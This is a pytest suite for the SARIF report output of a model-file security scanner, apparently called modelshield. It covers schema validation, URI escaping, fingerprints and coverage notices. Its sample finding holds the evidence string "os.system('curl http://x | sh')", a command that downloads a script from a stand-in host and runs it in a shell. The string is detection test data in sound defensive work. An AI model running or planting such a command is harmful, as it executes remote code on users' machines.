from __future__ import annotations

import dataclasses
import hashlib
import json
import random
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from report_samples import PARTIAL, critical_call
from report_samples import clean_result as _clean
from report_samples import incomplete_result as _incomplete
from report_samples import sample_result as _sample

from modelshield.findings import (
    Confidence,
    Coverage,
    CoverageStatus,
    Finding,
    Location,
    ScanResult,
    Severity,
)
from modelshield.report.sarif import (
    FINGERPRINT_KEY,
    artifact_location,
    fingerprint,
    render_sarif,
    to_sarif,
)
from modelshield.rules.catalog import RULES


@pytest.fixture
def result() -> ScanResult:
    return _sample()


@pytest.fixture
def clean_result() -> ScanResult:
    return _clean()


@pytest.fixture
def incomplete_result() -> ScanResult:
    return _incomplete()


SCHEMA_FILE = Path(__file__).parent / "data" / "sarif-schema-2.1.0.json"
SCHEMA_SHA256 = "c3b4bb2d6093897483348925aaa73af03b3e3f4bd4ca38cef26dcb4212a2682e"
# RFC 3986 URI-reference characters (the schema's "uri-reference" format is not checked by
# jsonschema without optional dependencies, so check the characters ourselves).
URI_REFERENCE = re.compile(r"^(?:[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=]|%[0-9A-Fa-f]{2})*$")


@pytest.fixture(scope="module")
def sarif_schema() -> dict[str, Any]:
    data = SCHEMA_FILE.read_bytes()
    assert hashlib.sha256(data).hexdigest() == SCHEMA_SHA256
    loaded: dict[str, Any] = json.loads(data)
    return loaded


def validate(log: dict[str, Any], sarif_schema: dict[str, Any]) -> None:
    assert sarif_schema["$schema"] == "http://json-schema.org/draft-04/schema#"
    validator = jsonschema.Draft4Validator(
        sarif_schema, format_checker=jsonschema.Draft4Validator.FORMAT_CHECKER
    )
    errors = sorted(validator.iter_errors(log), key=lambda e: list(e.path))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors)
    for uri in _uris(log):
        assert URI_REFERENCE.match(uri), uri


def _uris(node: Any) -> list[str]:
    found: list[str] = []
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "uri" and isinstance(value, str):
                found.append(value)
            else:
                found.extend(_uris(value))
    elif isinstance(node, list):
        for value in node:
            found.extend(_uris(value))
    return found


def run_of(log: dict[str, Any]) -> dict[str, Any]:
    (run,) = log["runs"]
    assert isinstance(run, dict)
    return run


def test_official_schema_is_a_valid_draft4_schema(sarif_schema: dict[str, Any]) -> None:
    jsonschema.Draft4Validator.check_schema(sarif_schema)
    assert sarif_schema["id"].endswith("/sarif-schema-2.1.0.json")


@pytest.mark.parametrize("threshold", list(Severity))
@pytest.mark.parametrize("below", [False, True])
def test_validates_against_official_schema(
    result: ScanResult, sarif_schema: dict[str, Any], threshold: Severity, below: bool
) -> None:
    text = render_sarif(result, threshold=threshold, include_below_threshold=below)
    validate(json.loads(text), sarif_schema)


def test_other_results_validate(
    clean_result: ScanResult, incomplete_result: ScanResult, sarif_schema: dict[str, Any]
) -> None:
    for res in (clean_result, incomplete_result, ScanResult(findings=(), coverage=())):
        validate(to_sarif(res, threshold=Severity.HIGH), sarif_schema)


def test_schema_catches_mistakes(result: ScanResult, sarif_schema: dict[str, Any]) -> None:
    log = to_sarif(result, threshold=Severity.HIGH)
    log["runs"][0]["results"][0]["level"] = "fatal"
    with pytest.raises(AssertionError):
        validate(log, sarif_schema)


def test_log_header(result: ScanResult) -> None:
    log = to_sarif(result, threshold=Severity.HIGH)
    assert log["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json"
    assert log["version"] == "2.1.0"
    driver = run_of(log)["tool"]["driver"]
    assert driver["name"] == "modelshield"
    assert driver["version"] == driver["semanticVersion"]
    assert driver["informationUri"].startswith("https://")


def test_every_rule_is_a_driver_rule(result: ScanResult) -> None:
    rules = run_of(to_sarif(result, threshold=Severity.HIGH))["tool"]["driver"]["rules"]
    assert [r["id"] for r in rules] == sorted(RULES)
    for descriptor in rules:
        rule = RULES[descriptor["id"]]
        assert descriptor["name"] == rule.name
        assert descriptor["shortDescription"]["text"] == rule.summary
        assert descriptor["fullDescription"]["text"] == rule.description
        assert rule.description in descriptor["help"]["text"]
        props = descriptor["properties"]
        assert "security" in props["tags"]
        if rule.cwe is not None:
            assert f"external/cwe/cwe-{rule.cwe}" in props["tags"]
        if rule.severity is Severity.INFO:
            assert "security-severity" not in props
        else:
            score = float(props["security-severity"])
            assert isinstance(props["security-severity"], str)
            assert 0.0 < score <= 10.0
        assert props["precision"] in {"high", "medium", "low"}


def test_rule_levels_and_scores(result: ScanResult) -> None:
    rules = run_of(to_sarif(result, threshold=Severity.HIGH))["tool"]["driver"]["rules"]
    by_id = {r["id"]: r for r in rules}
    assert by_id["MS101"]["defaultConfiguration"]["level"] == "error"
    assert by_id["MS101"]["properties"]["security-severity"] == "9.8"
    assert by_id["MS102"]["properties"]["security-severity"] == "8.0"
    assert by_id["MS100"]["defaultConfiguration"]["level"] == "warning"
    assert by_id["MS100"]["properties"]["security-severity"] == "5.0"
    assert by_id["MS108"]["defaultConfiguration"]["level"] == "note"


def test_results_reference_the_right_rule_index(result: ScanResult) -> None:
    run = run_of(to_sarif(result, threshold=Severity.INFO))
    rules = run["tool"]["driver"]["rules"]
    assert len(run["results"]) == len(result.findings)
    for res in run["results"]:
        assert rules[res["ruleIndex"]]["id"] == res["ruleId"]


def test_unknown_rule_gets_a_descriptor(sarif_schema: dict[str, Any]) -> None:
    finding = Finding("MS999", Severity.HIGH, Confidence.LOW, "future", Location("a.pkl"))
    log = to_sarif(ScanResult(findings=(finding,), coverage=()), threshold=Severity.HIGH)
    validate(log, sarif_schema)
    run = run_of(log)
    (res,) = run["results"]
    assert run["tool"]["driver"]["rules"][res["ruleIndex"]]["id"] == "MS999"


def test_result_levels_follow_finding_severity(result: ScanResult) -> None:
    run = run_of(to_sarif(result, threshold=Severity.INFO))
    levels = {r["ruleId"]: r["level"] for r in run["results"]}
    assert levels == {
        "MS101": "error",
        "MS102": "error",
        "MS105": "warning",
        "MS110": "note",
        "MS108": "note",
    }


def test_threshold_filters_results(result: ScanResult) -> None:
    high = run_of(to_sarif(result, threshold=Severity.HIGH))
    assert [r["ruleId"] for r in high["results"]] == ["MS101", "MS102"]
    assert high["properties"]["findingsNotEmitted"] == 3
    everything = run_of(to_sarif(result, threshold=Severity.HIGH, include_below_threshold=True))
    assert len(everything["results"]) == 5
    assert everything["properties"]["verdict"] == "unsafe"


def test_suppressed_findings_are_not_results(result: ScanResult) -> None:
    run = run_of(to_sarif(result, threshold=Severity.INFO))
    assert all("baz.qux" not in r["message"]["text"] for r in run["results"])
    assert run["properties"]["suppressed"] == 1


def test_result_location_and_properties(result: ScanResult) -> None:
    run = run_of(to_sarif(result, threshold=Severity.HIGH))
    res = run["results"][0]
    assert res["ruleId"] == "MS101"
    (location,) = res["locations"]
    physical = location["physicalLocation"]
    assert physical["artifactLocation"]["uri"] == "models/evil%20model.pt"
    assert physical["artifactLocation"]["uriBaseId"] == "%SRCROOT%"
    # GitHub requires region.startLine and does not display byte regions: line 1, bytes in props
    assert physical["region"] == {"startLine": 1}
    artifact = run["artifacts"][physical["artifactLocation"]["index"]]
    assert artifact["location"]["uri"] == "models/evil%20model.pt"
    assert res["properties"] == {
        "severity": "critical",
        "confidence": "high",
        "member": "archive/data.pkl",
        "byteOffset": 58,
        "opcodeIndex": 12,
        "opcode": "REDUCE",
        "evidence": "os.system('curl http://x | sh')",
        "reason": "runs a shell command",
        "cwe": 502,
    }
    text = res["message"]["text"]
    assert "os.system('curl http://x | sh')" in text
    assert "in member archive/data.pkl at byte offset 58 (opcode #12 REDUCE)" in text
    assert "runs a shell command" in text


def test_message_evidence_is_truncated() -> None:
    evidence = "os.system('" + "B" * 50_000 + "')"
    finding = dataclasses.replace(critical_call(), evidence=evidence)
    run = run_of(to_sarif(ScanResult(findings=(finding,), coverage=()), threshold=Severity.HIGH))
    (res,) = run["results"]
    assert len(res["message"]["text"]) < 1500
    assert f"[truncated, {len(evidence)} characters in all]" in res["message"]["text"]
    assert res["properties"]["evidence"] == evidence


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("models/evil model.pt", {"uri": "models/evil%20model.pt", "uriBaseId": "%SRCROOT%"}),
        ("./a b/c#d?.pkl", {"uri": "a%20b/c%23d%3F.pkl", "uriBaseId": "%SRCROOT%"}),
        ("modèle.pkl", {"uri": "mod%C3%A8le.pkl", "uriBaseId": "%SRCROOT%"}),
        ("weird:name.pkl", {"uri": "weird%3Aname.pkl", "uriBaseId": "%SRCROOT%"}),
        ("/abs/dir/x y.pkl", {"uri": "file:///abs/dir/x%20y.pkl"}),
        ("C:\\Models\\m 1.pt", {"uri": "file:///C:/Models/m%201.pt"}),
        ("\\\\host\\share\\m.pt", {"uri": "file://host/share/m.pt"}),
        (
            b"bad\xff.pkl".decode("utf-8", "surrogateescape"),
            {"uri": "bad%FF.pkl", "uriBaseId": "%SRCROOT%"},
        ),
    ],
)
def test_uri_escaping(path: str, expected: dict[str, str]) -> None:
    location = artifact_location(path)
    assert location == expected
    assert URI_REFERENCE.match(location["uri"])


def test_spaces_in_paths_validate(sarif_schema: dict[str, Any]) -> None:
    finding = dataclasses.replace(critical_call(), location=Location("my models/a b.pkl"))
    log = to_sarif(ScanResult(findings=(finding,), coverage=()), threshold=Severity.HIGH)
    validate(log, sarif_schema)
    (res,) = run_of(log)["results"]
    uri = res["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert uri == "my%20models/a%20b.pkl"


def test_fingerprints_are_stable_and_distinct(result: ScanResult) -> None:
    first = run_of(to_sarif(result, threshold=Severity.INFO))["results"]
    again = run_of(to_sarif(result, threshold=Severity.INFO))["results"]
    prints = [r["partialFingerprints"][FINGERPRINT_KEY] for r in first]
    assert prints == [r["partialFingerprints"][FINGERPRINT_KEY] for r in again]
    assert len(set(prints)) == len(prints)
    base = critical_call()
    moved = dataclasses.replace(base, location=dataclasses.replace(base.location, offset=59))
    other_member = dataclasses.replace(
        base, location=dataclasses.replace(base.location, member="other.pkl")
    )
    reworded = dataclasses.replace(base, message="different words, same problem")
    assert fingerprint(base) != fingerprint(moved)
    assert fingerprint(base) != fingerprint(other_member)
    assert fingerprint(base) == fingerprint(reworded)


def test_invocation_reports_coverage_gaps_and_errors(result: ScanResult) -> None:
    (invocation,) = run_of(to_sarif(result, threshold=Severity.HIGH))["invocations"]
    assert invocation["executionSuccessful"] is False
    assert invocation["properties"]["verdict"] == "unsafe"
    assert invocation["properties"]["complete"] is False
    notes = invocation["toolExecutionNotifications"]
    summary = [(n["descriptor"]["id"], n["level"]) for n in notes]
    assert summary == [
        ("coverage/partial", "warning"),
        ("coverage/inconclusive", "warning"),
        ("coverage/skipped", "note"),
        ("scan-error", "error"),
    ]
    partial = notes[0]
    assert partial["message"]["text"] == f"{PARTIAL}: partial (pickle): opcode limit reached"
    uri = partial["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert uri == PARTIAL


def test_incomplete_is_visible(incomplete_result: ScanResult) -> None:
    run = run_of(to_sarif(incomplete_result, threshold=Severity.HIGH))
    assert run["results"] == []
    (invocation,) = run["invocations"]
    assert invocation["executionSuccessful"] is True
    assert invocation["properties"]["verdict"] == "incomplete"
    assert [n["descriptor"]["id"] for n in invocation["toolExecutionNotifications"]] == [
        "coverage/partial"
    ]


def test_clean_run(clean_result: ScanResult) -> None:
    run = run_of(to_sarif(clean_result, threshold=Severity.HIGH))
    assert run["results"] == []
    assert run["properties"]["verdict"] == "clean"
    (invocation,) = run["invocations"]
    assert invocation["executionSuccessful"] is True


def test_artifacts(result: ScanResult) -> None:
    artifacts = run_of(to_sarif(result, threshold=Severity.HIGH))["artifacts"]
    uris = [a["location"]["uri"] for a in artifacts]
    assert uris[:6] == [
        "models/README.md",
        "models/big.pkl",
        "models/blob.bin",
        "models/clean.pkl",
        "models/evil%20model.pt",
        "models/locked.pkl",
    ]
    torch = artifacts[4]
    assert torch["length"] == 4096
    assert torch["hashes"] == {"sha-256": "ab" * 32}
    assert torch["properties"] == {"format": "zip", "coverage": "scanned"}
    (member,) = artifacts[6:]
    assert member["location"] == {"uri": "archive/data.pkl"}
    assert member["parentIndex"] == 4
    assert all(a["roles"] == ["analysisTarget"] for a in artifacts)
    assert "length" not in artifacts[5]  # the unreadable file has no coverage entry


def test_output_is_deterministic(result: ScanResult) -> None:
    expected = render_sarif(result, threshold=Severity.LOW)
    rng = random.Random(99)  # noqa: S311
    for _ in range(5):
        findings, coverage = list(result.findings), list(result.coverage)
        rng.shuffle(findings)
        rng.shuffle(coverage)
        shuffled = dataclasses.replace(result, findings=tuple(findings), coverage=tuple(coverage))
        assert render_sarif(shuffled, threshold=Severity.LOW) == expected


def test_absolute_paths_have_no_base(sarif_schema: dict[str, Any]) -> None:
    finding = dataclasses.replace(critical_call(), location=Location("/tmp/x y/m.pkl", offset=3))
    coverage = (Coverage("/tmp/x y/m.pkl", CoverageStatus.SCANNED, "pickle"),)
    log = to_sarif(ScanResult(findings=(finding,), coverage=coverage), threshold=Severity.HIGH)
    validate(log, sarif_schema)
    (res,) = run_of(log)["results"]
    artifact = res["locations"][0]["physicalLocation"]["artifactLocation"]
    assert artifact["uri"] == "file:///tmp/x%20y/m.pkl"
    assert "uriBaseId" not in artifact
